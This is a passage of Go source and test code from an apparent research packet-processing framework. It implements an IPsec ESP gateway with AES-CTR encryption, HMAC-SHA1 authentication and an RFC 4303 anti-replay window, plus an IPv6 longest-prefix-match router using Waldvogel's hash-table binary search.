func (e *HMAC) Configure(ctx *element.ConfigContext, args []string) error {
	db, err := sadbFor(ctx, args)
	if err != nil {
		return fmt.Errorf("IPsecHMAC: %w", err)
	}
	e.db = db
	return nil
}

// Process implements the CPU-side function.
func (e *HMAC) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	if Authenticate(pkt, e.db) != nil {
		return element.Drop
	}
	return 0
}

// Datablocks implements element.Offloadable (shared with AES).
func (e *HMAC) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ipsec.frame", Kind: element.WholePacket,
			Offset: packet.EthHdrLen, H2D: true, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *HMAC) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if Authenticate(pkt, e.db) != nil {
			b.SetResult(i, batch.ResultDrop)
		}
	})
}

// ESPDecap verifies, decrypts and decapsulates ESP frames (the reverse
// gateway direction). It enforces the RFC 4303 anti-replay window per
// security association; with RSS a flow always lands on the same worker,
// so per-replica windows are correct.
type ESPDecap struct {
	db      *SADB
	windows map[int]*ReplayWindow
}

// Class implements element.Element.
func (*ESPDecap) Class() string { return "IPsecESPdecap" }

// OutPorts implements element.Element.
func (*ESPDecap) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *ESPDecap) Configure(ctx *element.ConfigContext, args []string) error {
	db, err := sadbFor(ctx, args)
	if err != nil {
		return fmt.Errorf("IPsecESPdecap: %w", err)
	}
	e.db = db
	e.windows = make(map[int]*ReplayWindow)
	return nil
}

// Process implements element.Element.
func (e *ESPDecap) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	ok, err := Verify(pkt, e.db)
	if err != nil || !ok {
		return element.Drop
	}
	saIdx := int(pkt.Anno[packet.AnnoFlowID])
	win := e.windows[saIdx]
	if win == nil {
		win = &ReplayWindow{}
		e.windows[saIdx] = win
	}
	if !win.Check(SeqOf(pkt.Data())) {
		return element.Drop // replayed or stale sequence number
	}
	if Decrypt(pkt, e.db) != nil {
		return element.Drop
	}
	if Decap(pkt) != nil {
		return element.Drop
	}
	return 0
}
