// Package ipsec implements the IPsec encryption gateway application (paper
// §4.1, Figure 8c): ESP tunnel-mode encapsulation, AES-128-CTR encryption
// and HMAC-SHA1 authentication, with per-flow security associations whose
// crypto contexts are initialised once at startup and reused — the paper's
// envelope-reuse trick that keeps context setup off the data path.
//
// Packets are really encrypted and really authenticated; the encrypt →
// decrypt → verify round-trip is exercised by tests.
package ipsec

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/sha1"
	"encoding/binary"
	"errors"
	"fmt"
	"hash"

	"nba/internal/packet"
	"nba/internal/rng"
)

// Frame geometry constants (tunnel mode over Ethernet).
const (
	OuterIPOff  = packet.EthHdrLen               // 14
	ESPOff      = OuterIPOff + packet.IPv4HdrLen // 34
	IVOff       = ESPOff + packet.ESPHdrLen      // 42
	IVLen       = 16
	PayloadOff  = IVOff + IVLen // 58
	ICVLen      = 12            // HMAC-SHA1-96
	trailerLen  = 2             // pad length + next header
	espOverhead = PayloadOff - packet.EthHdrLen + trailerLen + ICVLen
)

// SA is one security association.
type SA struct {
	SPI    uint32
	AESKey [16]byte
	MACKey [20]byte
	Seq    uint32
	block  cipher.Block // created once, reused (AES-NI envelope trick)
	mac    hash.Hash    // reused via Reset; single-threaded by design
}

// SADB is the security association database, shared per socket.
type SADB struct {
	SAs []*SA
	// TunnelSrc/TunnelDst are the outer header addresses.
	TunnelSrc, TunnelDst uint32
}

// NewSADB creates n SAs with deterministic keys derived from seed.
func NewSADB(n int, seed uint64) (*SADB, error) {
	if n <= 0 {
		return nil, fmt.Errorf("ipsec: SADB needs at least one SA, got %d", n)
	}
	r := rng.New(seed)
	db := &SADB{TunnelSrc: 0xC0A80001, TunnelDst: 0xC0A80002}
	for i := 0; i < n; i++ {
		sa := &SA{SPI: uint32(0x10000 + i)}
		for j := 0; j < 16; j += 8 {
			binary.LittleEndian.PutUint64(sa.AESKey[j:], r.Uint64())
		}
		for j := 0; j < 16; j += 8 {
			binary.LittleEndian.PutUint64(sa.MACKey[j:], r.Uint64())
		}
		binary.LittleEndian.PutUint32(sa.MACKey[16:], r.Uint32())
		block, err := aes.NewCipher(sa.AESKey[:])
		if err != nil {
			return nil, fmt.Errorf("ipsec: creating AES context: %w", err)
		}
		sa.block = block
		sa.mac = hmac.New(sha1.New, sa.MACKey[:])
		db.SAs = append(db.SAs, sa)
	}
	return db, nil
}

// Select picks the SA for a flow hash.
func (db *SADB) Select(flowHash uint32) (int, *SA) {
	idx := int(flowHash) % len(db.SAs)
	if idx < 0 {
		idx += len(db.SAs)
	}
	return idx, db.SAs[idx]
}

// Encap performs ESP tunnel encapsulation in place: the original IP packet
// (everything after the Ethernet header) becomes the encrypted payload of a
// new outer IPv4+ESP envelope. Returns the SA index used.
//
// After Encap the payload is still plaintext; Encrypt and Authenticate
// complete the transformation (they are separate elements — and separate
// GPU kernels — in the pipeline).
func Encap(pkt *packet.Packet, db *SADB) (int, error) {
	orig := pkt.Length()
	inner := orig - packet.EthHdrLen
	if inner <= 0 {
		return 0, errors.New("ipsec: frame too short to encapsulate")
	}
	pad := (4 - (inner+trailerLen)%4) % 4
	newLen := orig + espOverhead + pad
	if newLen > packet.MaxFrameLen {
		return 0, fmt.Errorf("ipsec: encapsulated frame %d exceeds buffer %d", newLen, packet.MaxFrameLen)
	}
	buf := pkt.Buf()

	flow := packet.FlowHash5(pkt.Data())
	idx, sa := db.Select(flow)
	sa.Seq++

	// Shift the inner packet to the payload region.
	copy(buf[PayloadOff:PayloadOff+inner], buf[packet.EthHdrLen:orig])
	// ESP trailer: padding bytes, pad length, next header (4 = IPv4).
	for i := 0; i < pad; i++ {
		buf[PayloadOff+inner+i] = byte(i + 1)
	}
	buf[PayloadOff+inner+pad] = byte(pad)
	buf[PayloadOff+inner+pad+1] = 4

	// ESP header.
	binary.BigEndian.PutUint32(buf[ESPOff:], sa.SPI)
	binary.BigEndian.PutUint32(buf[ESPOff+4:], sa.Seq)

	// Deterministic IV derived from (SPI, seq).
	ivr := rng.New(uint64(sa.SPI)<<32 | uint64(sa.Seq))
	binary.LittleEndian.PutUint64(buf[IVOff:], ivr.Uint64())
	binary.LittleEndian.PutUint64(buf[IVOff+8:], ivr.Uint64())

	// Outer IPv4 header.
	h := buf[OuterIPOff:]
	h[0] = 0x45
	h[1] = 0
	binary.BigEndian.PutUint16(h[2:4], uint16(newLen-packet.EthHdrLen))
	binary.BigEndian.PutUint16(h[4:6], uint16(sa.Seq)) // ID
	binary.BigEndian.PutUint16(h[6:8], 0)
	h[8] = 64
	h[9] = packet.ProtoESP
	packet.SetIPv4Src(h, db.TunnelSrc)
	packet.SetIPv4Dst(h, db.TunnelDst)
	packet.SetIPv4Checksum(h)

	pkt.SetLength(newLen)
	pkt.Anno[packet.AnnoFlowID] = uint64(idx)
	return idx, nil
}

// Encrypt applies AES-128-CTR over the payload region in place.
func Encrypt(pkt *packet.Packet, db *SADB) error {
	sa, payload, err := saAndPayload(pkt, db)
	if err != nil {
		return err
	}
	iv := pkt.Buf()[IVOff : IVOff+IVLen]
	cipher.NewCTR(sa.block, iv).XORKeyStream(payload, payload)
	return nil
}

// Decrypt is Encrypt (CTR mode is symmetric); exported for clarity.
func Decrypt(pkt *packet.Packet, db *SADB) error { return Encrypt(pkt, db) }

// Authenticate computes the HMAC-SHA1-96 ICV over ESP header + IV +
// ciphertext and writes it to the frame's trailer.
func Authenticate(pkt *packet.Packet, db *SADB) error {
	sa, _, err := saAndPayload(pkt, db)
	if err != nil {
		return err
	}
	buf := pkt.Buf()
	end := pkt.Length()
	sa.mac.Reset()
	sa.mac.Write(buf[ESPOff : end-ICVLen])
	sum := sa.mac.Sum(nil)
	copy(buf[end-ICVLen:end], sum[:ICVLen])
	return nil
}

// Verify recomputes the ICV and reports whether it matches.
func Verify(pkt *packet.Packet, db *SADB) (bool, error) {
	sa, _, err := saAndPayload(pkt, db)
	if err != nil {
		return false, err
	}
	buf := pkt.Buf()
	end := pkt.Length()
	sa.mac.Reset()
	sa.mac.Write(buf[ESPOff : end-ICVLen])
	sum := sa.mac.Sum(nil)
	return hmac.Equal(sum[:ICVLen], buf[end-ICVLen:end]), nil
}

// Decap reverses Encap on a decrypted frame, restoring the inner packet
// behind the Ethernet header. The ICV must have been verified first.
func Decap(pkt *packet.Packet) error {
	end := pkt.Length()
	if end < PayloadOff+trailerLen+ICVLen {
		return errors.New("ipsec: frame too short to decapsulate")
	}
	buf := pkt.Buf()
	padLen := int(buf[end-ICVLen-2])
	next := buf[end-ICVLen-1]
	if next != 4 {
		return fmt.Errorf("ipsec: unexpected next header %d", next)
	}
	inner := end - ICVLen - trailerLen - padLen - PayloadOff
	if inner <= 0 {
		return errors.New("ipsec: inner packet length underflow")
	}
	copy(buf[packet.EthHdrLen:packet.EthHdrLen+inner], buf[PayloadOff:PayloadOff+inner])
	pkt.SetLength(packet.EthHdrLen + inner)
	return nil
}

func saAndPayload(pkt *packet.Packet, db *SADB) (*SA, []byte, error) {
	end := pkt.Length()
	if end < PayloadOff+ICVLen {
		return nil, nil, errors.New("ipsec: frame not encapsulated")
	}
	idx := int(pkt.Anno[packet.AnnoFlowID])
	if idx < 0 || idx >= len(db.SAs) {
		return nil, nil, fmt.Errorf("ipsec: SA index %d out of range", idx)
	}
	return db.SAs[idx], pkt.Buf()[PayloadOff : end-ICVLen], nil
}
