package ipsec

import "encoding/binary"

// ReplayWindow implements the RFC 4303 anti-replay check: a sliding 64-bit
// window over ESP sequence numbers. The receive side of a security
// association rejects duplicates and packets older than the window.
type ReplayWindow struct {
	highest uint32 // highest sequence number accepted so far
	bitmap  uint64 // bit i set = (highest - i) seen
	started bool
}

// WindowSize is the number of past sequence numbers tracked.
const WindowSize = 64

// Check reports whether seq is acceptable (neither replayed nor too old)
// and, if so, marks it as seen.
func (w *ReplayWindow) Check(seq uint32) bool {
	if seq == 0 {
		// ESP sequence numbers start at 1; zero is never valid.
		return false
	}
	if !w.started {
		w.started = true
		w.highest = seq
		w.bitmap = 1
		return true
	}
	switch {
	case seq > w.highest:
		shift := uint64(seq - w.highest)
		if shift >= WindowSize {
			w.bitmap = 1
		} else {
			w.bitmap = w.bitmap<<shift | 1
		}
		w.highest = seq
		return true
	case w.highest-seq >= WindowSize:
		return false // too old
	default:
		bit := uint64(1) << (w.highest - seq)
		if w.bitmap&bit != 0 {
			return false // replay
		}
		w.bitmap |= bit
		return true
	}
}

// Highest returns the highest accepted sequence number.
func (w *ReplayWindow) Highest() uint32 { return w.highest }

// SeqOf extracts the ESP sequence number of an encapsulated frame.
func SeqOf(frame []byte) uint32 {
	return binary.BigEndian.Uint32(frame[ESPOff+4 : ESPOff+8])
}
