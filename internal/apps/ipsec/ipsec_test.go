package ipsec

import (
	"bytes"
	"testing"
	"testing/quick"

	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func mkPkt(t *testing.T, frameLen int) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	n := packet.BuildUDP4(p.Buf(), [6]byte{2, 0, 0, 0, 0, 1}, [6]byte{2, 0, 0, 0, 0, 2},
		0x0A000001, 0x08080808, 1234, 53, frameLen)
	p.SetLength(n)
	// Recognisable payload.
	for i := packet.EthHdrLen + 28; i < frameLen; i++ {
		p.Buf()[i] = byte(i)
	}
	return p
}

func newDB(t *testing.T) *SADB {
	t.Helper()
	db, err := NewSADB(64, 7)
	if err != nil {
		t.Fatal(err)
	}
	return db
}

func TestEncapGeometry(t *testing.T) {
	db := newDB(t)
	p := mkPkt(t, 64)
	orig := append([]byte(nil), p.Data()...)
	idx, err := Encap(p, db)
	if err != nil {
		t.Fatal(err)
	}
	if idx < 0 || idx >= 64 {
		t.Errorf("SA index %d out of range", idx)
	}
	// 64-byte inner frame: inner=50, pad=(4-(50+2)%4)%4=0, new=64+44+2+12=122.
	if p.Length() != 122 {
		t.Errorf("encapsulated length = %d, want 122", p.Length())
	}
	outer := p.Data()[OuterIPOff:]
	if packet.IPv4Proto(outer) != packet.ProtoESP {
		t.Error("outer protocol not ESP")
	}
	if err := packet.CheckIPv4(outer); err != nil {
		t.Errorf("outer header invalid: %v", err)
	}
	// Inner packet (still plaintext) preserved in the payload region.
	if !bytes.Equal(p.Buf()[PayloadOff:PayloadOff+50], orig[packet.EthHdrLen:]) {
		t.Error("inner packet corrupted by encapsulation")
	}
}

func TestEncryptDecryptRoundTrip(t *testing.T) {
	db := newDB(t)
	p := mkPkt(t, 256)
	if _, err := Encap(p, db); err != nil {
		t.Fatal(err)
	}
	plain := append([]byte(nil), p.Data()...)
	if err := Encrypt(p, db); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(p.Data(), plain) {
		t.Fatal("encryption did not change payload")
	}
	// Headers and IV untouched.
	if !bytes.Equal(p.Data()[:PayloadOff], plain[:PayloadOff]) {
		t.Error("encryption touched headers")
	}
	if err := Decrypt(p, db); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(p.Data(), plain) {
		t.Error("decrypt did not restore plaintext")
	}
}

func TestAuthenticateAndVerify(t *testing.T) {
	db := newDB(t)
	p := mkPkt(t, 128)
	if _, err := Encap(p, db); err != nil {
		t.Fatal(err)
	}
	if err := Encrypt(p, db); err != nil {
		t.Fatal(err)
	}
	if err := Authenticate(p, db); err != nil {
		t.Fatal(err)
	}
	ok, err := Verify(p, db)
	if err != nil || !ok {
		t.Fatalf("Verify = %v, %v; want true", ok, err)
	}
	// Any ciphertext bit flip must break the ICV.
	p.Buf()[PayloadOff+3] ^= 1
	ok, _ = Verify(p, db)
	if ok {
		t.Error("tampered frame verified")
	}
}

func TestFullGatewayRoundTripProperty(t *testing.T) {
	// encap → encrypt → authenticate → verify → decrypt → decap must
	// restore the original frame for any size and payload.
	db := newDB(t)
	f := func(sizeSel uint16, payloadSeed uint64) bool {
		frameLen := 64 + int(sizeSel)%1437 // 64..1500
		p := &packet.Packet{}
		n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4},
			uint32(payloadSeed), uint32(payloadSeed>>32), 99, 99, frameLen)
		p.SetLength(n)
		r := rng.New(payloadSeed)
		for i := 42; i < frameLen; i++ {
			p.Buf()[i] = byte(r.Uint64())
		}
		orig := append([]byte(nil), p.Data()...)

		if _, err := Encap(p, db); err != nil {
			return false
		}
		if err := Encrypt(p, db); err != nil {
			return false
		}
		if err := Authenticate(p, db); err != nil {
			return false
		}
		if ok, err := Verify(p, db); err != nil || !ok {
			return false
		}
		if err := Decrypt(p, db); err != nil {
			return false
		}
		if err := Decap(p); err != nil {
			return false
		}
		return bytes.Equal(p.Data(), orig)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestSADBDeterministicAndDistinct(t *testing.T) {
	a, _ := NewSADB(8, 1)
	b, _ := NewSADB(8, 1)
	c, _ := NewSADB(8, 2)
	if a.SAs[3].AESKey != b.SAs[3].AESKey {
		t.Error("same seed produced different keys")
	}
	if a.SAs[3].AESKey == c.SAs[3].AESKey {
		t.Error("different seeds produced same keys")
	}
	if a.SAs[0].AESKey == a.SAs[1].AESKey {
		t.Error("adjacent SAs share a key")
	}
	if _, err := NewSADB(0, 1); err == nil {
		t.Error("empty SADB accepted")
	}
}

func TestSeqIncrementsPerSA(t *testing.T) {
	db := newDB(t)
	p1 := mkPkt(t, 64)
	p2 := mkPkt(t, 64) // same 5-tuple -> same SA
	idx1, _ := Encap(p1, db)
	idx2, _ := Encap(p2, db)
	if idx1 != idx2 {
		t.Fatal("same flow mapped to different SAs")
	}
	s1 := p1.Data()[ESPOff+4 : ESPOff+8]
	s2 := p2.Data()[ESPOff+4 : ESPOff+8]
	if bytes.Equal(s1, s2) {
		t.Error("sequence number did not increment")
	}
	// And the IVs must differ (derived from seq).
	if bytes.Equal(p1.Data()[IVOff:IVOff+IVLen], p2.Data()[IVOff:IVOff+IVLen]) {
		t.Error("IV repeated across packets of one SA")
	}
}

func TestEncapErrors(t *testing.T) {
	db := newDB(t)
	tiny := &packet.Packet{}
	tiny.SetLength(10)
	if _, err := Encap(tiny, db); err == nil {
		t.Error("tiny frame encapsulated")
	}
	huge := mkPkt(t, 1640)
	if _, err := Encap(huge, db); err == nil {
		t.Error("frame that would overflow the buffer encapsulated")
	}
	raw := &packet.Packet{}
	raw.SetLength(20)
	if err := Encrypt(raw, db); err == nil {
		t.Error("Encrypt accepted unencapsulated frame")
	}
}

func TestElementsPipelineEquivalence(t *testing.T) {
	// Driving the three elements must equal calling the library directly.
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)}
	pc := &element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}

	enc, aes, mac, dec := &ESPEncap{}, &AES{}, &HMAC{}, &ESPDecap{}
	for _, e := range []element.Element{enc, aes, mac, dec} {
		if err := e.Configure(cc, []string{"sas=32", "seed=5"}); err != nil {
			t.Fatal(err)
		}
	}
	if enc.db != aes.db || aes.db != mac.db || mac.db != dec.db {
		t.Fatal("elements did not share the SADB")
	}

	p := mkPkt(t, 200)
	orig := append([]byte(nil), p.Data()...)
	for _, e := range []element.Element{enc, aes, mac} {
		if r := e.Process(pc, p); r != 0 {
			t.Fatalf("%s returned %d", e.Class(), r)
		}
	}
	if p.Anno[packet.AnnoOutPort] >= 4 {
		t.Error("out port annotation out of range")
	}
	if r := dec.Process(pc, p); r != 0 {
		t.Fatalf("decap returned %d", r)
	}
	if !bytes.Equal(p.Data(), orig) {
		t.Error("element pipeline did not round-trip the frame")
	}
}

func TestElementConfigErrors(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)}
	for _, args := range [][]string{{"sas=0"}, {"sas=x"}, {"seed=x"}, {"nope=1"}} {
		if err := (&ESPEncap{}).Configure(cc, args); err == nil {
			t.Errorf("config %v accepted", args)
		}
	}
}

func TestSharedDatablockNames(t *testing.T) {
	a := (&AES{}).Datablocks()
	h := (&HMAC{}).Datablocks()
	if a[0].Name != h[0].Name {
		t.Error("AES and HMAC do not share the frame datablock (chained offload would copy twice)")
	}
	if !a[0].H2D || !a[0].D2H {
		t.Error("frame datablock must copy both directions")
	}
}

func BenchmarkEncryptAuthenticate64(b *testing.B)   { benchCrypto(b, 64) }
func BenchmarkEncryptAuthenticate1500(b *testing.B) { benchCrypto(b, 1500) }

func benchCrypto(b *testing.B, size int) {
	db, _ := NewSADB(64, 7)
	p := &packet.Packet{}
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 3, 4, size)
	p.SetLength(n)
	if _, err := Encap(p, db); err != nil {
		b.Fatal(err)
	}
	encLen := p.Length()
	b.SetBytes(int64(size))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p.SetLength(encLen)
		if err := Encrypt(p, db); err != nil {
			b.Fatal(err)
		}
		if err := Authenticate(p, db); err != nil {
			b.Fatal(err)
		}
	}
}
