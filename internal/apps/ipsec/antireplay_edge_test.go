package ipsec

import "testing"

// TestReplayWindowEdges drives the window through its boundary conditions as
// scripted step tables: each case is a fresh window and an ordered list of
// Check calls with expected verdicts.
func TestReplayWindowEdges(t *testing.T) {
	type step struct {
		seq  uint32
		want bool
	}
	cases := []struct {
		name  string
		steps []step
	}{
		{"zero always invalid", []step{
			{0, false}, {1, true}, {0, false},
		}},
		{"exact duplicate of first", []step{
			{7, true}, {7, false}, {7, false},
		}},
		{"exact duplicate of highest", []step{
			{1, true}, {2, true}, {3, true}, {3, false},
		}},
		{"window boundary just inside", []step{
			{100, true},
			{100 - WindowSize + 1, true}, // oldest trackable slot
			{100 - WindowSize + 1, false},
		}},
		{"window boundary just outside", []step{
			{100, true},
			{100 - WindowSize, false}, // distance == WindowSize: too old
		}},
		{"shift of exactly WindowSize resets the bitmap", []step{
			{10, true},
			{10 + WindowSize, true}, // shift == WindowSize clears history
			{10, false},             // now exactly at the stale edge
			{11, true},              // oldest in-window slot after the reset
		}},
		{"far-future jump invalidates the past", []step{
			{5, true},
			{5 + 1000*WindowSize, true},
			{5 + 999*WindowSize, false}, // long before the new window
			{6, false},
			{5 + 1000*WindowSize - 1, true}, // inside the new window, unseen
		}},
		{"jump to max then stay", []step{
			{0xFFFFFFFF, true},
			{0xFFFFFFFF, false},
			{0xFFFFFFFF - WindowSize + 1, true},
			{0xFFFFFFFF - WindowSize, false},
		}},
		{"no ESN: sequence wraparound is rejected", []step{
			// RFC 4303 without extended sequence numbers: after the 32-bit
			// counter tops out, small sequence numbers are ancient history,
			// not a new epoch. The SA must be rekeyed instead.
			{0xFFFFFFF0, true},
			{1, false},
			{2, false},
			{0xFFFFFFFF, true}, // forward movement below the cap still works
		}},
		{"out-of-order fill then duplicates", []step{
			{10, true}, {8, true}, {9, true}, {6, true},
			{8, false}, {9, false}, {6, false}, {10, false},
			{7, true}, {7, false},
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var w ReplayWindow
			for i, s := range c.steps {
				if got := w.Check(s.seq); got != s.want {
					t.Fatalf("step %d: Check(%d) = %v, want %v (highest %d)",
						i, s.seq, got, s.want, w.Highest())
				}
			}
		})
	}
}
