package ipv6

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
)

func init() {
	element.Register("LookupIP6Route", func() element.Element { return &LookupIP6Route{} })
}

// LookupIP6Route is the offloadable Waldvogel lookup element (paper Figure
// 8b). Parameters: "entries=N" (default 65536), "seed=S" (default 42).
type LookupIP6Route struct {
	table    *Table
	numPorts int
}

// Class implements element.Element.
func (*LookupIP6Route) Class() string { return "LookupIP6Route" }

// OutPorts implements element.Element.
func (*LookupIP6Route) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *LookupIP6Route) Configure(ctx *element.ConfigContext, args []string) error {
	entries := 65536
	seed := uint64(42)
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "entries="):
			v, err := strconv.Atoi(strings.TrimPrefix(a, "entries="))
			if err != nil || v < 0 {
				return fmt.Errorf("LookupIP6Route: bad entries %q", a)
			}
			entries = v
		case strings.HasPrefix(a, "seed="):
			v, err := strconv.ParseUint(strings.TrimPrefix(a, "seed="), 10, 64)
			if err != nil {
				return fmt.Errorf("LookupIP6Route: bad seed %q", a)
			}
			seed = v
		default:
			return fmt.Errorf("LookupIP6Route: unknown parameter %q", a)
		}
	}
	key := fmt.Sprintf("ipv6.fib.%d.%d", entries, seed)
	var err error
	e.table = element.GetOrCreate(ctx.NodeLocal, key, func() *Table {
		tableMu.Lock()
		defer tableMu.Unlock()
		if t, ok := tableCache[key]; ok {
			return t
		}
		t, berr := NewTable(RandomRoutes(entries, 256, seed))
		if berr != nil {
			err = berr
			return t
		}
		tableCache[key] = t
		return t
	})
	if err != nil {
		return err
	}
	e.numPorts = ctx.NumPorts
	return nil
}

// tableCache shares immutable FIBs across Systems in one process. The mutex
// makes the cache safe for concurrent System construction (internal/par
// sweeps); the table content is a pure function of the key.
var (
	tableMu    sync.Mutex
	tableCache = map[string]*Table{}
)

// Process implements the CPU-side function.
func (e *LookupIP6Route) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	dst := packet.IPv6DstAddr(pkt.Data()[packet.EthHdrLen:])
	nh := e.table.Lookup(dst)
	if nh == MissNextHop {
		return element.Drop
	}
	pkt.Anno[packet.AnnoOutPort] = uint64(int(nh) % e.numPorts)
	return 0
}

// Datablocks implements element.Offloadable: 16-byte destination in, 4-byte
// next hop out.
func (e *LookupIP6Route) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ipv6.dst", Kind: element.PartialPacket,
			Offset: packet.EthHdrLen + 24, Length: 16, H2D: true},
		{Name: "ipv6.nexthop", Kind: element.UserData, UserBytes: 4, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *LookupIP6Route) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		dst := packet.IPv6DstAddr(pkt.Data()[packet.EthHdrLen:])
		nh := e.table.Lookup(dst)
		if nh == MissNextHop {
			b.SetResult(i, batch.ResultDrop)
			return
		}
		pkt.Anno[packet.AnnoOutPort] = uint64(int(nh) % e.numPorts)
	})
}
