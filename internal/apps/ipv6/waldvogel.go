// Package ipv6 implements the IPv6 router application: longest prefix
// matching by binary search on hash tables organised by prefix length
// (Waldvogel, Varghese, Turner, Plattner — the algorithm the paper's IPv6
// lookup uses, §4.1), and the offloadable LookupIP6Route element.
package ipv6

import (
	"fmt"
	"sort"

	"nba/internal/packet"
	"nba/internal/rng"
)

// MissNextHop is returned by Lookup when no route matches.
const MissNextHop = 0xFFFF

// Route is one IPv6 FIB entry.
type Route struct {
	Prefix  packet.IPv6Addr
	PLen    int
	NextHop uint16
}

// entry is one hash-table slot: a real prefix, a marker, or both. Markers
// carry the best-matching-prefix result computed at build time so the
// search never needs to backtrack.
type entry struct {
	real   bool
	nh     uint16 // next hop when real
	bmp    uint16 // best match at or above this level (for search guidance)
	hasBMP bool
}

// Table performs binary search over prefix-length levels; with markers the
// search makes at most ceil(log2(#levels)) hash probes — at most 7 for the
// full 1..128 range, matching the paper's "at most seven random memory
// accesses".
type Table struct {
	levels []int // distinct prefix lengths, ascending
	tables []map[packet.IPv6Addr]entry
	def    uint16 // next hop of the zero-length (default) route
	hasDef bool
	routes []Route
}

// NewTable builds the search structure from routes.
func NewTable(routes []Route) (*Table, error) {
	t := &Table{}
	lengthSet := map[int]bool{}
	for _, r := range routes {
		if r.PLen < 0 || r.PLen > 128 {
			return nil, fmt.Errorf("ipv6: prefix length %d out of range", r.PLen)
		}
		if r.PLen == 0 {
			t.def = r.NextHop
			t.hasDef = true
			continue
		}
		lengthSet[r.PLen] = true
	}
	for l := range lengthSet {
		t.levels = append(t.levels, l)
	}
	sort.Ints(t.levels)
	t.tables = make([]map[packet.IPv6Addr]entry, len(t.levels))
	for i := range t.tables {
		t.tables[i] = map[packet.IPv6Addr]entry{}
	}
	t.routes = routes

	// Build a binary trie over all prefixes so marker best-matching-prefix
	// values can be computed in O(plen) instead of O(#routes) each — with
	// Internet-scale FIBs the linear scan is quadratic overall.
	trie := newBMPTrie(routes)

	levelIdx := map[int]int{}
	for i, l := range t.levels {
		levelIdx[l] = i
	}

	// Insert real prefixes.
	for _, r := range routes {
		if r.PLen == 0 {
			continue
		}
		key := r.Prefix.Mask(r.PLen)
		i := levelIdx[r.PLen]
		e := t.tables[i][key]
		e.real = true
		e.nh = r.NextHop
		t.tables[i][key] = e
	}

	// Insert markers along each prefix's binary search path, with the
	// best-matching prefix precomputed (Waldvogel's marker optimisation).
	for _, r := range routes {
		if r.PLen == 0 {
			continue
		}
		lo, hi := 0, len(t.levels)-1
		target := levelIdx[r.PLen]
		for lo <= hi {
			mid := (lo + hi) / 2
			if mid == target {
				break
			}
			if mid < target {
				// The search must be steered right past mid: plant a marker
				// for this prefix's mid-length key.
				key := r.Prefix.Mask(t.levels[mid])
				e := t.tables[mid][key]
				if !e.hasBMP {
					e.bmp = trie.bmpAtMost(key, t.levels[mid], t.defaultNH())
					e.hasBMP = true
				}
				t.tables[mid][key] = e
				lo = mid + 1
			} else {
				hi = mid - 1
			}
		}
	}
	return t, nil
}

// bmpTrie is a binary trie over route prefixes used at build time to
// compute marker best-matching-prefix values efficiently.
type bmpTrie struct {
	child [2]*bmpTrie
	hasNH bool
	nh    uint16
}

func newBMPTrie(routes []Route) *bmpTrie {
	root := &bmpTrie{}
	for _, r := range routes {
		if r.PLen == 0 {
			continue
		}
		n := root
		for bit := 0; bit < r.PLen; bit++ {
			b := addrBit(r.Prefix, bit)
			if n.child[b] == nil {
				n.child[b] = &bmpTrie{}
			}
			n = n.child[b]
		}
		// Later routes of equal length overwrite earlier ones, matching
		// the hash-table insertion semantics.
		n.hasNH = true
		n.nh = r.NextHop
	}
	return root
}

// bmpAtMost returns the next hop of the longest prefix of addr with length
// <= maxLen, or def if none matches.
func (t *bmpTrie) bmpAtMost(addr packet.IPv6Addr, maxLen int, def uint16) uint16 {
	best := def
	n := t
	for bit := 0; bit < maxLen && n != nil; bit++ {
		n = n.child[addrBit(addr, bit)]
		if n != nil && n.hasNH {
			best = n.nh
		}
	}
	return best
}

func addrBit(a packet.IPv6Addr, bit int) int {
	if bit < 64 {
		return int(a.Hi >> (63 - bit) & 1)
	}
	return int(a.Lo >> (127 - bit) & 1)
}

func (t *Table) defaultNH() uint16 {
	if t.hasDef {
		return t.def
	}
	return MissNextHop
}

// Lookup returns the next hop for addr, or MissNextHop. Probes counts hash
// accesses for diagnostics.
func (t *Table) Lookup(addr packet.IPv6Addr) uint16 {
	nh, _ := t.LookupCounted(addr)
	return nh
}

// LookupCounted returns the next hop and the number of hash probes made.
func (t *Table) LookupCounted(addr packet.IPv6Addr) (uint16, int) {
	best := t.defaultNH()
	lo, hi := 0, len(t.levels)-1
	probes := 0
	for lo <= hi {
		mid := (lo + hi) / 2
		probes++
		e, ok := t.tables[mid][addr.Mask(t.levels[mid])]
		if !ok {
			hi = mid - 1
			continue
		}
		if e.real {
			best = e.nh
		} else if e.hasBMP {
			best = e.bmp
		}
		lo = mid + 1
	}
	return best, probes
}

// NaiveLookup is the linear reference LPM for property tests.
func (t *Table) NaiveLookup(addr packet.IPv6Addr) uint16 {
	best := -1
	nh := MissNextHop
	for _, r := range t.routes {
		if addr.Mask(r.PLen) == r.Prefix.Mask(r.PLen) && r.PLen >= best {
